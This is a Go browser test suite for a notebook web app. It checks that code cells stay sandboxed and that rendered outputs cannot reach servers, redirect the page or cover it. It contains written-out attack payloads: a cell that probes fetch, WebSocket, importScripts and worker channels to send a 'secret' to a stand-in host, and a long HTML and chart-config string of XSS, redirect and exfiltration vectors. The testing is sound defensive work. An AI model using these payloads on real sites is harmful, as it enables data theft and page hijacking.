package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	protocol "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/mpcvm/mpcvm/internal/testkit/must"
	"github.com/mpcvm/mpcvm/tools/browser"
)

// ear records forbidden traffic: connections to another server, and requests to our own with a secret.
type ear struct {
	mu    sync.Mutex
	heard []string
}

func (e *ear) hear(what string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard = append(e.heard, what)
}

// fresh returns the traffic since the last call.
func (e *ear) fresh() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	heard := e.heard
	e.heard = nil
	return heard
}

// listening records each connection, even if nothing is sent.
type listening struct {
	net.Listener
	ear *ear
}

func (l listening) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.ear.hear("a connection to the other server")
	}
	return c, err
}

// servers starts two servers, the site and another with the address other. Both record forbidden traffic.
func servers(t *testing.T) (site, other string, e *ear) {
	t.Helper()
	e = &ear{}
	files := http.FileServer(http.Dir(built))
	own := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.String(), "secret") {
			e.hear("our own server: " + r.URL.String())
		}
		files.ServeHTTP(w, r)
	}))
	t.Cleanup(own.Close)
	foreign := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.hear("the other server: " + r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
		_, _ = w.Write([]byte("<h1>taken away</h1>"))
	}))
	foreign.Listener = listening{foreign.Listener, e}
	foreign.Start()
	t.Cleanup(foreign.Close)
	return own.URL, foreign.URL, e
}

// watched opens Chromium with the two servers.
func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
	t.Helper()
	installed(t, "chrome")
	site, other, e = servers(t)
	ctx, cancel := browser.Start(t.Context())
	t.Cleanup(cancel)
	must.OK(t, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
	return ctx, site, other, e
}

// value evaluates an expression in the page and awaits it if it is a promise.
func value[T any](ctx context.Context, t *testing.T, expression string, arguments ...any) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
	defer cancel()
	texts := make([]any, len(arguments))
	for i, a := range arguments {
		text := must.Get(json.Marshal(a))(t)
		texts[i] = string(text)
	}
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](fmt.Sprintf(expression, texts...),
		chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("%s: %v", expression, err)
	}
	return v
}

// comes waits for a condition of the page, which fails while the page changes.
func comes(ctx context.Context, t *testing.T, condition string) {
	t.Helper()
	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("!!("+condition+")")); err == nil && ok {
			return
		}
	}
	text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText.slice(0, 2000)`))
	t.Fatalf("%s does not become true; the page: %s", condition, text)
}

const pageReady = `document.documentElement.dataset.ready && window.mpcvmNotebook`

// openNotebook opens the page of a live notebook and waits until it is ready.
func openNotebook(ctx context.Context, t *testing.T, address string) {
	t.Helper()
	must.OK(t, chromedp.Do(ctx, chromedp.Navigate("about:blank"), chromedp.Navigate(address)))
	comes(ctx, t, pageReady)
}

// picture saves a picture of the page in LOOK_OUT.
func picture(ctx context.Context, t *testing.T, name string) {
	t.Helper()
	out := os.Getenv("LOOK_OUT")
	if out == "" {
		return
	}
	for _, width := range []int64{1280, 400} {
		must.OK(t, chromedp.Do(ctx, chromedp.EmulateViewport(width, 700)))
		time.Sleep(300 * time.Millisecond) // charts move into place
		shot, err := chromedp.Call(ctx, protocol.CaptureScreenshot, protocol.CaptureScreenshotParams{})
		must.OK(t, err)
		must.OK(t, os.WriteFile(filepath.Join(out, fmt.Sprintf("%s-%d.png", name, width)), shot.Data, 0o600))
	}
	must.OK(t, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
}

// button presses the button with the given text.
func button(ctx context.Context, t *testing.T, text string) {
	t.Helper()
	is := `[...document.querySelectorAll("#main button")].find(b => b.textContent === %s && b.checkVisibility())`
	comes(ctx, t, fmt.Sprintf(is, strconv.Quote(text)))
	value[any](ctx, t, is+".click()", text)
}

// runJS runs a cell in the page's kernel, as the page does, and returns its status and its output.
const runJS = `(async () => {
	const out = { text: "", html: 0 };
	const r = await mpcvmNotebook.kernel.run("a", %s, { text: (_, t) => out.text += t, html() { out.html++ }, update() {} });
	return r.status + "\n" + r.errors.map(e => e.text).join("\n") + out.text;
})()`

// leaks is a cell that tries every way out of a worker. It prints a line for each that seems open.
const leaks = `import "syscall/js"

// settled waits at most three seconds for a promise, or for one of the events of a target.
func settled(v js.Value, good ...string) string {
	done := make(chan string, 4)
	f := func(text string) js.Func {
		return js.FuncOf(func(js.Value, []js.Value) any { done <- text; return nil })
	}
	if v.Get("then").Type() == js.TypeFunction {
		v.Call("then", f("open"), f(""))
	} else {
		v.Set("onerror", f(""))
		for _, event := range good {
			v.Set(event, f("open"))
		}
	}
	select {
	case text := <-done:
		return text
	case <-time.After(3 * time.Second):
		return ""
	}
}

func try(name string, way func() string) {
	defer func() { recover() }()
	if way() != "" {
		fmt.Println(name)
	}
}

%%
self := js.Global()
blob := func(text string) string {
	return self.Get("URL").Call("createObjectURL", self.Get("Blob").New([]any{text}, map[string]any{"type": "text/javascript"})).String()
}
// whose exception can be recovered from
property := func(name string) js.Value { return self.Get("Reflect").Call("get", self, name) }
try("fetch", func() string { return settled(self.Call("fetch", "OTHER/get?secret")) })
try("fetch of ours", func() string { return settled(self.Call("fetch", "OWN/table/index.html?secret")) })
try("fetch without cors", func() string { return settled(self.Call("fetch", "OTHER/opaque?secret", map[string]any{"mode": "no-cors"})) })
try("XMLHttpRequest", func() string {
	x := self.Get("XMLHttpRequest").New()
	x.Call("open", "GET", "OTHER/xhr?secret", false)
	x.Call("send")
	return "open"
})
for _, at := range []string{"OTHER", "OWN"} {
	try("WebSocket", func() string { return settled(self.Get("WebSocket").New(strings.Replace(at, "http", "ws", 1)+"/ws?secret"), "onopen") })
}
try("EventSource", func() string { return settled(self.Get("EventSource").New("OTHER/events?secret"), "onopen") })
try("importScripts", func() string { self.Call("importScripts", "OTHER/script?secret"); return "open" })
try("importScripts of ours", func() string { self.Call("importScripts",
	"OWN/charts.js?secret"); return "open" })
try("worker", func() string { return settled(self.Get("Worker").New("OWN/charts.js?secret"), "onmessage") })
try("nested worker", func() string {
	return settled(self.Get("Worker").New(blob("fetch('OTHER/nested?secret', {mode: 'no-cors'}).then(() => postMessage(1))")), "onmessage")
})
try("font", func() string { return settled(self.Get("FontFace").New("x", "url(OTHER/font?secret)").Call("load")) })
try("IndexedDB", func() string { return settled(self.Get("indexedDB").Call("open", "mpcvm-notebooks"), "onsuccess") })
try("caches", func() string { return settled(property("caches").Call("open", "mpcvm")) })
try("cache of the site", func() string { return settled(property("caches").Call("delete", "mpcvm-2")) })
try("locks", func() string { return settled(self.Get("navigator").Get("locks").Call("query")) })
try("files", func() string { return settled(self.Get("navigator").Get("storage").Call("getDirectory")) })
self.Get("BroadcastChannel").New("mpcvm-notebooks").Call("postMessage", "KEY")
_, err := os.ReadFile("/mpcvm/data/penguins.csv")
fmt.Println("done", err)
`

// TestProgramIsAlone runs a cell that tries to reach another server, our own server, and the browser storage
// of the site. The worker of the playground's engine runs in the same kind of sandbox.
func TestProgramIsAlone(t *testing.T) {
	ctx, site, other, e := watched(t)
	openNotebook(ctx, t, site+"/notebooks/new.html")
	e.fresh()
	source := strings.NewReplacer("OTHER", other, "OWN", site).Replace(leaks)
	if got := value[string](ctx, t, runJS, source); got != "ok\ndone <nil>\n" {
		t.Errorf("a cell can use:\n%s", got)
	}
	time.Sleep(500 * time.Millisecond) // for late connections
	if heard := e.fresh(); len(heard) > 0 {
		t.Errorf("a cell reached a server: %q", heard)
	}
	if got := value[string](ctx, t, `caches.keys().then(k => k.join())`); got != "mpcvm-2" {
		t.Errorf("caches of the site: %q", got)
	}
	must.OK(t, chromedp.Do(ctx, chromedp.Navigate(site+"/playground/index.html")))
	comes(ctx, t, `document.documentElement.dataset.ready`)
	if got := value[int](ctx, t,
		`performance.getEntriesByType("resource").filter(r => r.name.endsWith("worker.js") && r.initiatorType !== "fetch").length`); got != 0 {
		t.Error("the playground's worker is not in a sandbox")
	}
	if got := value[string](ctx, t,
		`[...document.querySelectorAll("iframe")].map(f => f.getAttribute("sandbox")).join()`); got != "allow-scripts" {
		t.Errorf("frames of the playground: %q", got)
	}
}

// hostile is an output that tries to reach a server, to lead the reader away, or to cover the page.
const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
<img src="OTHER/img?secret"><img src="OWN/icon.svg?secret"><img srcset="OTHER/srcset?secret"><picture><source srcset="OTHER/source?secret"><img></picture>
<script src="OTHER/script?secret"></script><script>location.href = "OTHER/inline?secret"</script>
<img src="data:," onerror="location.href='OTHER/handler?secret'"><svg onload="location.href='OTHER/svg?secret'"></svg>
<meta http-equiv="refresh" content="0;url=OTHER/refresh?secret"><base href="OTHER/">
<link rel="stylesheet" href="OTHER/style?secret"><link rel="preconnect" href="OTHER"><link rel="prefetch" href="OWN/table/index.html?secret"><link rel="stylesheet" href="OWN/style.css?secret">
<style>@import "OWN/style.css?import=secret"; @font-face { font-family: q; src: url("OWN/font?secret") } p { font-family: q; background: url("OTHER/bg?secret") } .controls { display: none }</style>
<p style="background: url('OTHER/attribute?secret'); cursor: url('OWN/cursor?secret'), auto">x</p>
<svg><image href="OTHER/image?secret"/><use href="OTHER/use?secret#a"/><a href="OTHER/a"><text y="20">link</text></a></svg>
<iframe src="OTHER/frame?secret"></iframe><iframe srcdoc="<meta http-equiv=refresh content='0;url=OTHER/srcdoc?secret'>"></iframe><object data="OTHER/object?secret"></object><embed src="OTHER/embed?secret">
<video src="OTHER/video?secret" poster="OTHER/poster?secret"></video><audio src="OTHER/audio?secret" autoplay></audio>
<form action="OWN/table/index.html" id="f"><input name="secret" value="1"><button id="submit">Run it</button></form><button form="f" formaction="OTHER/formaction">x</button>
<a id="away" href="OTHER/link?secret" target="_top" ping="OTHER/ping?secret">click here</a><map name="m"><area href="OTHER/area?secret" shape="default"></map>
<div popover id="pop">over</div><button popovertarget="pop">pop</button><dialog open>dialog</dialog>
<div id="cover" style="position: fixed; inset: 0; z-index: 9999; background: #fff">covers the page</div>
<div id="huge" style="position: absolute; top: -3000px; left: -3000px; width: 9000px; height: 9000px; z-index: 9999; background: #fff">covers the page</div>
<template><meta http-equiv="refresh" content="0;url=OTHER/template?secret"></template>
<img name="createElement" src="data:,"><img name="body" id="getElementById" src="data:,">
<div id="jupyter-config-data">{"baseUrl":"OTHER/"}</div>
<div class="mpcvm-chart" id="chart" style="height: 200px"></div>
<div><p class="mpcvm-bar"><i class="mpcvm-still"></i></p><p id="live" style="height: 9px"></p></div>`

// hostileCharts are the codes of a chart with an address in its title and HTML in its tooltip, which it tries to
// place outside the chart and to style, and of charts that would be drawn over the page, if their ids were
// looked up in the page or were part of a selector, that call what no chart calls, or that look for a server.
var hostileCharts = []string{
	`show("main",{},null);`, `show("notebook",{},null);`, `show("x\"],body,[id=\"y",{},null);`,
	`show.frames("main",{"frames":[[{},null]],"alts":[""],"labels":[""],"start":0});`,
	`show.constructor("called=1")();`, `show.run("show(\"main\",{},null)");`,
	`show.toString.constructor("called=1")();`,
	`show.live("live",{"kernel":"a?secret","address":"a","name":"","labels":["0"],"start":0},{},null);`,
	`show("chart",{"title":{"text":"chart","link":"OTHER/title?secret","target":"self"},` +
		`"tooltip":{"trigger":"axis","alwaysShowContent":true,"appendTo":"body","className":"styled",` +
		`"extraCssText":"STYLE","backgroundColor":"#fffSTYLE","borderColor":"#fffSTYLE",` +
		`"textStyle":{"color":"#000STYLE","fontFamily":"aSTYLE"},"formatter":"<i class=tip>tip</i>` +
		`<meta http-equiv=refresh content='0;url=OTHER/tip?secret'><img src='OTHER/tip?secret'>"},` +
		`"xAxis":{"type":"value"},"yAxis":{"type":"value"},"series":[{"type":"line","data":[[0,1],[1,2]]}]},null);`,
}

// withCharts is the hostile output with its charts and the addresses of the servers.
func withCharts(site, other string) string {
	addresses := strings.NewReplacer("OTHER", other, "OWN", site, "STYLE", ";outline:9999px solid #fff")
	out := addresses.Replace(hostile)
	for _, code := range hostileCharts {
		out += `<script>(window.mpcvmWait=window.mpcvmWait||[]).push("` +
			base64.StdEncoding.EncodeToString(gzipped([]byte(addresses.Replace(code)))) + `")</script>`
	}
	return out
}

// hostileNotebook is a file with the output out and a text.
func hostileNotebook(t *testing.T, out, other string) []byte {
	t.Helper()
	file, err := json.Marshal(map[string]any{"cells": []any{map[string]any{"id": "x", "cell_type": "code",
		"source": "println(1)", "metadata": map[string]any{},
		"outputs": []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{},
			"data": map[string]any{"text/html": out}}}},
		map[string]any{"id": "y", "cell_type": "markdown", "metadata": map[string]any{}, "source": "![x](" + other +
			"/text?secret) <img src=" + other + "/html?secret>"}},
		"metadata": map[string]any{}, "nbformat": 4, "nbformat_minor": 5})
	must.OK(t, err)
	return file
}

// TestOutputIsHarmless shows the hostile output, from a program and from an opened file.
func TestOutputIsHarmless(t *testing.T) {
	ctx, site, other, e := watched(t)
	out := withCharts(site, other)
	file := hostileNotebook(t, out, other)
	for _, way := range []struct {
		name string
		show func()
	}{
		{"a program", func() {
			openNotebook(ctx, t, site+"/notebooks/new.html")
			value[any](ctx, t, `void document.querySelector(".cell.code > pre").click()`)
			comes(ctx, t, `document.activeElement?.closest(".cm-editor")`)
			cell := "import \"syscall/js\"\n%%\njs.Global().Get(\"mpcvmCell\").Call(\"display\", " + "`" +
				strings.ReplaceAll(out, "`", "") + "`)"
			_, err := chromedp.Call(ctx, input.InsertText, input.InsertTextParams{Text: cell})
			must.OK(t, err)
			button(ctx, t, "▶")
		}},
		{"an opened file", func() {
			openNotebook(ctx, t, site+"/notebooks/new.html")
			value[any](ctx, t, `void (() => {
				const dataTransfer = new DataTransfer();
				dataTransfer.items.add(new File([%s], "hostile.ipynb"));
				document.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true }));
			})()`, string(file))
		}},
	} {
		e.fresh()
		way.show()
		comes(ctx, t, pageReady+` && document.querySelector(".outputs h3")`)
		if way.name == "an opened file" {
			safeMode(ctx, t)
		}
		comes(ctx, t, `document.querySelector(".mpcvm-chart svg")`)
		time.Sleep(time.Second) // for delayed requests
		value[any](ctx, t, `scrollTo(0, 0)`)
		if got := value[string](ctx, t, `[[innerWidth / 2, 5], [30, 30], [innerWidth / 2, document.querySelector(".controls").getBoundingClientRect().y + 10]]
			.map(([x, y]) => document.elementFromPoint(x, y)).filter(e => e?.closest(".outputs")).map(e => e.outerHTML.slice(0, 100)).join()`); got != "" {
			t.Errorf("an output of %s covers the page: %s", way.name, got)
		}
		// they cover the chart
		value[any](ctx, t, `void document.querySelectorAll("#cover, #huge").forEach(e => e.remove())`)
		type box struct{ X, Y, Width, Height float64 }
		b := value[box](ctx, t,
			`(() => { const c = document.querySelector(".mpcvm-chart"); c.scrollIntoView({ block: "center" }); const r = c.getBoundingClientRect(); return { X: r.x, Y: r.y, Width: r.width, Height: r.height } })()`)
		for _, at := range []float64{.4, .5, .6} { // the tooltip, then the title
			must.OK(t, chromedp.Do(ctx, chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, b.X+b.Width*at,
				b.Y+b.Height*.6)))
		}
		comes(ctx, t, `document.querySelector(".tip")`)
		if got := value[string](ctx, t, `[...document.querySelectorAll("*")].filter(e => (e.mpcvm || e.mpcvmGive) && !e.closest(".outputs > .html"))
			.concat([...document.querySelectorAll(".styled")], [...document.querySelectorAll("*")].filter(e => e.style?.outlineWidth))
			.map(e => e.outerHTML.slice(0, 100)).join() + (window.called ?? "")`); got != "" {
			t.Errorf("a chart of %s leaves its output: %s", way.name, got)
		}
		must.OK(t, chromedp.Do(ctx, chromedp.MouseClickXY(b.X+25, b.Y+15)))
		value[any](ctx, t,
			`void document.querySelectorAll(".outputs :is(a, area, button, svg a)").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
		// what the page tells its service worker does not include what its policy blocked
		value[any](ctx, t, `import("../keep.js").then(m => m.keepOffline()).then(() => null)`)
		time.Sleep(time.Second)
		if heard := e.fresh(); len(heard) > 0 {
			t.Errorf("an output of %s reached a server: %q", way.name, heard)
		}
		if at := value[string](ctx, t, `location.href`); !strings.HasPrefix(at, site+"/notebooks/new.html#") {
			t.Errorf("an output of %s led to %s", way.name, at)
		}
		if got := value[string](ctx, t,
			`[...document.querySelectorAll(".outputs :is(meta, link, base, style, script, form, iframe, object, embed, template, dialog, [href], [popover], [onerror])")].map(e => e.outerHTML).join()`); got != "" {
			t.Errorf("an output of %s shows %s", way.name, got)
		}
		if got := value[string](ctx, t,
			`getComputedStyle(document.querySelector(".outputs p")).color + document.querySelector(".outputs p b").textContent + !!document.querySelector(".tip").closest(".outputs")`); got != "rgb(255, 0, 0)stylestrue" {
			t.Errorf("the harmless content of an output of %s: %q", way.name, got)
		}
	}
	// A browser without the sanitizer shows outputs in frames without scripts.
	_, err := chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument,
		protocol.AddScriptToEvaluateOnNewDocumentParams{Source: "delete Element.prototype.setHTML"})
	must.OK(t, err)
	e.fresh()
	at := value[string](ctx, t, "location.href")
	openNotebook(ctx, t, at)
	comes(ctx, t, `document.querySelector(".outputs iframe")?.contentDocument?.querySelector("h3")`)
	time.Sleep(2 * time.Second)
	value[any](ctx, t,
		`void document.querySelector(".outputs iframe").contentDocument.querySelectorAll("a, button").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
	time.Sleep(time.Second)
	if heard, now := e.fresh(), value[string](ctx, t, "location.href"); len(heard) > 0 || now != at {
		t.Errorf("an output in a frame reached a server: %q; the page is at %s", heard, now)
	}
}

// safeMode checks that the charts of an opened file stay pictures, also after a reload, and leaves safe mode.
func safeMode(ctx context.Context, t *testing.T) {
	t.Helper()
	picture(ctx, t, "safe-mode")
	for _, when := range []string{"opened", "loaded again"} {
		time.Sleep(500 * time.Millisecond) // for a chart that runs too early
		if got := value[string](ctx, t, `document.querySelector(".safe:not([hidden])").textContent +
			[...document.querySelectorAll("*")].filter(e => e.mpcvm || e.mpcvmGive).map(e => e.outerHTML) +
			performance.getEntriesByType("resource").map(r => r.name).filter(n => n.endsWith("/charts.js"))`); got !=
			"Safe mode: this notebook comes from a file. None of its cells has run, and its charts are pictures."+
				"Leave safe mode" {
			t.Errorf("a file that is %s: %s", when, got)
		}
		must.OK(t, chromedp.Do(ctx, chromedp.Reload()))
		comes(ctx, t, pageReady+` && document.querySelector(".outputs h3")`)
	}
	button(ctx, t, "Leave safe mode")
	comes(ctx, t, `document.querySelector(".safe").hidden`)
}

// fragment returns the fragment of a link to a notebook, as site/notebook/share.js packs it.
func fragment(t *testing.T, source string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	must.OK(t, json.NewEncoder(z).Encode(map[string]any{"name": "shared",
		"cells": [][]string{{"code", source}}}))
	must.OK(t, z.Close())
	return "#notebook=" + base64.RawURLEncoding.EncodeToString(b.Bytes())
}

// TestOpened opens intact and damaged links, and files. A notebook from elsewhere asks before it runs, a
// damaged link is reported, files stay, statements need no mark, and a panic shows the number of its cell.
func TestOpened(t *testing.T) {
	ctx, site, _, _ := watched(t)
	address := site + "/notebooks/new.html"
	const notice = `document.querySelector(".notice:not([hidden])")?.textContent ?? ""`
	whole := fragment(t, "var a []int\nfmt.Println(\"begins\")\nfmt.Println(a[3])")
	for _, damaged := range []string{whole[:len(whole)/2], "#notebook=", "#notebook=%", whole[:20] + "*" +
		whole[20:]} {
		openNotebook(ctx, t, address+damaged)
		if got := value[string](ctx, t, notice); !strings.Contains(got, "cannot be read") {
			t.Errorf("the link %q: %q", damaged, got)
		}
		if got := value[int](ctx, t, `document.querySelectorAll(".cell.code").length`); got != 1 {
			t.Errorf("the link %q: %d cells", damaged, got)
		}
	}
	picture(ctx, t, "damaged-link")
	openNotebook(ctx, t, address+"#own:000000000000")
	if got := value[string](ctx, t, notice); !strings.Contains(got, "does not have the notebook") {
		t.Errorf("a missing notebook: %q", got)
	}

	openNotebook(ctx, t, address+whole)
	const safe = `document.querySelector(".safe:not([hidden])")?.textContent ?? ""`
	if got := value[string](ctx, t, safe); !strings.Contains(got, "a link. None of its cells has run.") {
		t.Errorf("a link: %q", got)
	}
	button(ctx, t, "▶▶ Run all")
	comes(ctx, t, notice+`.includes("Run its code?")`)
	if got := value[string](ctx, t,
		`mpcvmNotebook.kernel.state + document.querySelectorAll(".cell[data-mark]:not([data-mark=''])").length`); got != "empty0" {
		t.Errorf("a notebook from a link ran without permission: %s", got)
	}
	picture(ctx, t, "asks")
	button(ctx, t, "Run it")
	comes(ctx, t, `document.querySelector(".cell[data-mark=failed]")`)
	if got := value[string](ctx, t,
		`document.querySelector(".outputs").textContent`); got != "begins\npanic: runtime error: index out of "+
		"range [3] with length 0\n\tmain: cell 1, line 3\n" {
		t.Errorf("a cell that panics: %q", got)
	}
	picture(ctx, t, "panics")
	if got := value[string](ctx, t,
		`mpcvmNotebook.ipynb().then(nb => nb.cells[0].source.join(""))`); got != "var a []int\n%%\nfmt.Println(\"begins\")\nfmt.Println(a[3])" {
		t.Errorf("the file for GoNB has the cell %q", got)
	}
	comes(ctx, t, `location.hash.startsWith("#own:")`)

	value[any](ctx, t, `void (() => {
		const dataTransfer = new DataTransfer();
		dataTransfer.items.add(new File(["a,b\n1,x\n"], "t.csv"));
		document.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true }));
	})()`)
	comes(ctx, t, notice+`.includes("stays in this browser")`)
	must.OK(t, chromedp.Do(ctx, chromedp.Reload()))
	comes(ctx, t, pageReady)
	if got := value[string](ctx, t,
		`mpcvmNotebook.kernel.files().map(f => f.name + f.size + f.own).join()`); got != "t.csv8true" {
		t.Errorf("files after a reload: %q", got)
	}
	if got := value[string](ctx, t, safe); got != "" {
		t.Errorf("a notebook that was allowed to run: %q", got)
	}
	value[any](ctx, t, `void (document.querySelector(".files").open = true)`)
	button(ctx, t, "Remove")
	must.OK(t, chromedp.Do(ctx, chromedp.Reload()))
	comes(ctx, t, pageReady)
	if got := value[int](ctx, t, `mpcvmNotebook.kernel.files().length`); got != 0 {
		t.Errorf("%d files after their removal", got)
	}
}

// TestElsewhere repeats the attacks of a cell and of an opened file, and the first minute of “Your table”,
// in Firefox if MPCVM_FIREFOX is set, and otherwise in Chromium.
func TestElsewhere(t *testing.T) {
	name := "chrome"
	if os.Getenv("MPCVM_FIREFOX") != "" {
		name = "firefox"
	}
	site, other, e := servers(t)
	jobs := filepath.Join(t.TempDir(), "jobs.json")
	text := must.Get(json.Marshal(map[string]string{
		"cell":     strings.NewReplacer("OTHER", other, "OWN", site).Replace(leaks),
		"notebook": string(hostileNotebook(t, withCharts(site, other), other)),
		"table":    contentOf(t, "data/iris.csv"),
	}))(t)
	must.OK(t, os.WriteFile(jobs, text, 0o600))
	out, err := script(t, "attacks.mjs", name, site, jobs).Output()
	must.OK(t, err)
	t.Logf("%s", out)
	var seen struct {
		Cell, Over, At, Outside, Headline, Shared, Sent string
		Faults                                          []string
	}
	must.OK(t, json.Unmarshal(out, &seen))
	if heard := e.fresh(); len(heard) > 0 {
		t.Errorf("a server heard %q", heard)
	}
	if len(seen.Faults) > 0 || seen.Cell != "ok\ndone <nil>\n" || seen.Over+seen.Outside != "" ||
		seen.At != "/notebooks/new.html" || !strings.HasPrefix(seen.Headline, "Right in ") ||
		seen.Shared != seen.Headline || !strings.HasPrefix(seen.Sent, "0 bytes sent ") {
		t.Errorf("%+v", seen)
	}
}
